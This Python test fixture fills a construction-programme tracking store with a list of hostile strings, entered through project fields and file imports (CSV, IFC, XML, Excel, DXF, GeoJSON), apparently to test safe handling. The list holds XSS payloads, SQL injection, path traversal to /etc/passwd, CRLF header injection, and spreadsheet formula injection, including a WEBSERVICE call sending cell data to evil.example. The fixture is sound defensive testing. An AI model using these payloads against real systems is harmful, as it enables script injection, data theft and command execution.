"""Words made to be taken for something else, and a programme in which every word is one of them."""

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import ifcopenshell
import ifcopenshell.guid
from openpyxl import Workbook

from progress.reports import Report, Role, Said, SubjectKind
from services.imports import accept_file
from services.portfolio import import_basemap, import_portfolio
from services.programme import add_project
from services.take_reports import add_report
from services.workspace import Workspace
from store.records import ImportStatus
from values.projects import Project

RUN = "window.top.__pwned=1;alert(1)"
WORDS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'<img src="http://evil.example/x.png" onerror="{RUN}">',
    f"<svg/onload={RUN}>",
    f'"><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"' onmouseover='{RUN}' x='",
    '" style="position:fixed;inset:0;background:url(http://evil.example/css)" x="',
    f'<a href="javascript:{RUN}">click</a>',
    f"<details open ontoggle={RUN}>",
    f"<style>@import 'http://evil.example/x.css';</style><math><mtext><script>{RUN}</script>",
    f"[click](javascript:{RUN})",
    "![x](http://evil.example/x.png)",
    "[evil](http://evil.example/)",
    "see http://evil.example/path and www.evil.example and a@evil.example",
    "<http://evil.example/auto>",
    ":red[x] :blue-background[y] :small[z] :rainbow[w]",
    ":material/delete: :streamlit: :smile: :shortcode:",
    "$\\LaTeX$ $$\\int_0^1$$ \\(x\\)",
    "# head\n## two\n- item\n1. one\n> quote\n```\ncode\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** _slanted_ ~~struck~~ `code` [^1] --- -> <- (c)",
    "&lt;b&gt; &#60;script&#62; &amp;amp; &copy; &colon;red&lsqb;",
    "{0.__class__} {code} {name!r} %(x)s %s ${7*7} {{7*7}} #{7*7}",
    "a\u202egnp.exe\u2066\u200b\u200f",
    "长" * 700,
    "W" * 3000,
    "👩‍👩‍👧‍👦🏴‍☠️é̷̛̖" + "\u0301" * 60,
    "=cmd|'/c calc'!A1",
    "+1+1",
    "@SUM(A1)",
    "-2+3\t=4",
    "＝HYPERLINK(\"http://evil.example\")",
    "'; DROP TABLE projects; --",
    "../../etc/passwd",
    "%00%0d%0aSet-Cookie:x=1 %2e%2e%2f",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "__proto__",
    "constructor",
    "NaN",
    "\u2028\u2029<!--<script>",
    "</textarea></title></style><b>",
    "%{x} %{customdata[0]} <extra>e</extra> <br><b>b</b>",
    "\x07\x1b]0;title\x1b\\\x1b[31m",
    f"]]><script>{RUN}</script><![CDATA[",
    f"\"}};{RUN};//",
    f"javascript:{RUN}",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "\t=1+1",
    "\r\n@SUM(1)",
    ":red-badge[x] :gray-background[y] ^sup^ ==mark==",
    "{{constructor.constructor('window.top.__pwned=1')()}} ${window.top.__pwned=1}",
    "body{background:url(http://evil.example/css2)}",
    "' UNION SELECT 1 -- \" OR 1=1",
    "C:\\..\\..\\windows\\system32 \\\\evil.example\\share",
)  # fmt: skip

CODE = "A&b?c=1#d%2F+e f'\"`:x"
"""A project code in which every sign means something in an address."""
ENTERED = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
DAY = date(2026, 11, 20)
TAKEN = (ImportStatus.ACCEPTED, ImportStatus.ACCEPTED_WITH_FINDINGS)
_RING = [[[120.0, 30.0], [120.1, 30.0], [120.1, 30.1], [120.0, 30.0]]]


def hostile_programme(workspace: Workspace, folder: Path) -> None:
    """Fill a store: one project with everything, by every door, and one project for each word."""
    add_project(workspace, Project(CODE, WORDS[0], district=WORDS[2], owner=WORDS[3], delay_reason=WORDS[10],
                                   longitude=120.05, latitude=30.05))  # fmt: skip
    texts = {
        "model.ifc": _model(),
        "plan.xml": _plan(),
        "links.csv": _table(("element_guid", "task_uid"), ((guid(n), str(n)) for n in range(len(WORDS)))),
        "reports.csv": _table(
            ("observed_on", "element_guid", "role", "said", "reporter", "note"),
            (("2026-11-10", guid(n), "supervisor", "missing", word, word) for n, word in enumerate(WORDS)),
        ),
        "sections.geojson": _features({"name": word, "标段": word, word[:60]: word} for word in WORDS),
    }
    for number, (name, text) in enumerate(texts.items()):
        path = folder / name
        path.write_text(text, encoding="utf-8")
        outcome = accept_file(workspace, CODE, path, name=WORDS[number] + name, entered_at=ENTERED)
        assert outcome.status in TAKEN, (name, outcome.refusal)
    for number, (name, data) in enumerate((("plan.xlsx", _workbook()), ("drawing.dxf", _drawing().encode("utf-8")))):
        path = folder / name
        path.write_bytes(data)
        outcome = accept_file(workspace, CODE, path, name=WORDS[number] + name, entered_at=ENTERED)
        assert outcome.status is ImportStatus.ASKED, (name, outcome.refusal)  # and waits: its questions are on the page
    for number, word in enumerate(WORDS):  # what is refused is told as well
        path = folder / "refused.csv"
        path.write_text(f"{word.strip().splitlines()[0] or 'x'}\n", encoding="utf-8")
        accept_file(workspace, CODE, path, name=word, entered_at=ENTERED)
        add_report(
            workspace, CODE,
            Report(SubjectKind.TASK, str(number), Role.CONTRACTOR, DAY, Said.PRESENT, reporter=word[:100], note=word),
            entered_at=ENTERED,
        )  # fmt: skip
    path = folder / "programme.geojson"
    path.write_text(
        _features(
            {
                "code": f"W{number} {word[:20]}", "name": word, "district": word, "owner": word, "builder": word,
                "delay_reason": word, "supervisor": word, "category": word, "stage": word, "currency": word,
                "budget": 1e300, word[:60]: word,
            }
            for number, word in enumerate(WORDS)
        ),
        encoding="utf-8",
    )  # fmt: skip
    outcome = import_portfolio(workspace, path, {}, name=WORDS[0], entered_at=ENTERED)
    assert outcome.status in TAKEN, outcome.refusal
    path.write_text(_features({"name": word, "kind": word} for word in WORDS), encoding="utf-8")
    assert import_basemap(workspace, path, name=WORDS[1], entered_at=ENTERED).status in TAKEN
    _late_project_of_each_word(workspace, folder)


def _late_project_of_each_word(workspace: Workspace, folder: Path) -> None:
    """A plan as a table, and late by different lengths: the worst stand by name on the overview."""
    path = folder / "plan.csv"
    codes = [project.code for project in workspace.store.projects.all() if project.code.startswith("W")]
    for code in codes[:8]:
        rows = [(str(n), word, word, "2026-01-05", "2026-03-01") for n, word in enumerate(WORDS)]
        path.write_text(_table(("uid", "code", "name", "planned_start", "planned_finish"), rows), encoding="utf-8")
        assert accept_file(workspace, code, path, entered_at=ENTERED).status in TAKEN
        add_report(
            workspace, code, Report(SubjectKind.TASK, "1", Role.OWNER, DAY, Said.MISSING), entered_at=ENTERED
        )  # fmt: skip


def guid(number: int) -> str:
    """GlobalId of a wall; the first is none at all."""
    return "=1+1<b>:red[x]&?#%+" if number == 0 else f"{number:022d}"


def _table(head: tuple[str, ...], rows: object) -> str:
    sink = io.StringIO()
    writer = csv.writer(sink, lineterminator="\n")
    writer.writerow(head)
    writer.writerows(rows)  # type: ignore[call-overload]
    return "".join(sign for sign in sink.getvalue() if sign not in "\x07\x1b")  # with them it is no text and refused


def _features(properties: object) -> str:
    found = [
        {
            "type": "Feature", "properties": each,
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[x + number / 100, y] for x, y in ring] for ring in _RING],
            },
        }
        for number, each in enumerate(properties)  # type: ignore[call-overload]
    ]  # fmt: skip
    return json.dumps({"type": "FeatureCollection", "name": WORDS[2], "features": found})


def _workbook() -> bytes:
    """A plan whose sheets, headings and cells are words, two of the sheets possible."""
    book = Workbook()
    book.remove(book.active)
    for number, word in enumerate(WORDS):
        name = "".join(sign for sign in word if sign.isprintable() and sign not in "[]:*?/\\").strip("'")[:24]
        sheet = book.create_sheet(f"{name}{number}")
        sheet.append(["任务名称", "计划开始", "计划完成", *(_printed(other)[:200] for other in WORDS)])
        for row, other in enumerate(WORDS):
            sheet.append([_printed(other) or "x", date(2026, 1, 5), date(2026, 2, 5)])
            sheet.cell(row + 2, 1).data_type = "s"
        for cell in sheet[1]:
            cell.data_type = "s"
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def _printed(word: str) -> str:
    """A word without what no workbook holds."""
    return "".join(sign for sign in word if sign >= " " or sign in "\n\t")


def _drawing() -> str:
    """A drawing with one line on a layer of each word."""
    lines = ["0\nSECTION\n2\nENTITIES"]
    for number, word in enumerate(WORDS):
        layer = " ".join(_printed(word).split())[:200] or "x"
        lines.append(f"0\nLINE\n8\n{layer}\n10\n{500000 + number}\n20\n3300000\n11\n{500100 + number}\n21\n3300100")
    return "\n".join([*lines, "0\nENDSEC\n0\nEOF\n"])


def _plan() -> str:
    plain = ["".join(sign for sign in word if sign >= " " or sign in "\n\t") for word in WORDS]
    clean = [escape(word) for word in plain]
    tasks = "".join(
        f"<Task><UID>{n}</UID><ID>{n + 1}</ID><Name>{word}</Name><WBS>{escape(plain[n][:50])}</WBS>"
        f"<OutlineLevel>{1 + n % 3}</OutlineLevel>"
        f"<Start>2026-0{1 + n % 9}-05T08:00:00</Start><Finish>2026-0{1 + n % 9}-25T17:00:00</Finish>"
        "<CalendarUID>1</CalendarUID></Task>"
        for n, word in enumerate(clean)
    )
    return (
        f'<Project xmlns="http://schemas.microsoft.com/project"><Title>{clean[0]}</Title><CalendarUID>1</CalendarUID>'
        f"<Calendars><Calendar><UID>1</UID><Name>{clean[2]}</Name><IsBaseCalendar>1</IsBaseCalendar></Calendar></Calendars>"
        f"<Tasks>{tasks}</Tasks></Project>"
    )


def _model() -> str:
    """One wall for each word, which is also its storey, its tag, its type and its material."""
    made = ifcopenshell.file(schema="IFC4")
    made.header.file_name.time_stamp = WORDS[0]
    made.header.file_name.originating_system = ""
    made.header.file_description.description = (WORDS[2], WORDS[11])
    new = made.create_entity
    at = new("IfcAxis2Placement3D", new("IfcCartesianPoint", (0.0, 0.0, 0.0)))
    body = new("IfcGeometricRepresentationContext", WORDS[0], "Model", 3, 1e-5, at)
    metre = new("IfcSIUnit", None, "LENGTHUNIT", None, "METRE")
    project = new("IfcProject", ifcopenshell.guid.new(), None, WORDS[0], WORDS[1], RepresentationContexts=[body],
                  UnitsInContext=new("IfcUnitAssignment", [metre]))  # fmt: skip
    up = new("IfcDirection", (0.0, 0.0, 1.0))
    storeys = []
    for number, word in enumerate(WORDS):
        place = new(
            "IfcLocalPlacement", None, new("IfcAxis2Placement3D", new("IfcCartesianPoint", (number * 3.0, 0.0, 0.0)))
        )
        profile = new("IfcRectangleProfileDef", "AREA", None, None, 2.0, 2.0)
        solid = new("IfcExtrudedAreaSolid", profile, at, up, 3.0)
        shape = new(
            "IfcProductDefinitionShape",
            None,
            None,
            [new("IfcShapeRepresentation", body, "Body", "SweptSolid", [solid])],
        )
        wall = new("IfcWall", guid(number), None, word, word, word, place, shape, word)
        storey = new("IfcBuildingStorey", ifcopenshell.guid.new(), None, word, ObjectPlacement=place, LongName=word)
        kind = new("IfcWallType", ifcopenshell.guid.new(), None, word, PredefinedType="NOTDEFINED")
        new("IfcRelContainedInSpatialStructure", ifcopenshell.guid.new(), None, word, None, [wall], storey)
        new("IfcRelDefinesByType", ifcopenshell.guid.new(), None, None, None, [wall], kind)
        new("IfcRelAssociatesMaterial", ifcopenshell.guid.new(), None, None, None, [wall], new("IfcMaterial", word))
        new("IfcRelAssociatesClassification", ifcopenshell.guid.new(), None, None, None, [wall],
            new("IfcClassificationReference", "http://evil.example/", word, word))  # fmt: skip
        quantity = new("IfcElementQuantity", ifcopenshell.guid.new(), None, "Qto_WallBaseQuantities", None, None,
                       [new("IfcQuantityLength", "Length", None, None, float(number))])  # fmt: skip
        new("IfcRelDefinesByProperties", ifcopenshell.guid.new(), None, None, None, [wall], quantity)
        told = new("IfcPropertySingleValue", word, word, new("IfcText", word))
        properties = new("IfcPropertySet", ifcopenshell.guid.new(), None, f"Pset_{word}", word, [told])
        new("IfcRelDefinesByProperties", ifcopenshell.guid.new(), None, None, None, [wall], properties)
        storeys.append(storey)
    new("IfcRelAggregates", ifcopenshell.guid.new(), None, None, None, project, storeys)
    return str(made.to_string())
